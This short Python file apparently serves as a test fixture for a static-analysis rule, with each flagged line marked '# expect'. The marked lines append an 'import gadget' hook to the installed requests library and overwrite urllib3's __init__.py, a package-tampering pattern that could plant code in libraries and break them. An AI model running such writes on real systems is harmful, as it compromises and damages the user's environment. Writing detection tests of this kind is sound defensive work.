import os
import site

folder = site.getsitepackages()[0]
with open(os.path.join(folder, "requests", "api.py"), "a") as f:  # expect
    f.write("import gadget\n")  # expect
with open("/usr/lib/python3/dist-packages/urllib3/__init__.py", "w") as f:  # expect
    f.write("import gadget\n")  # expect
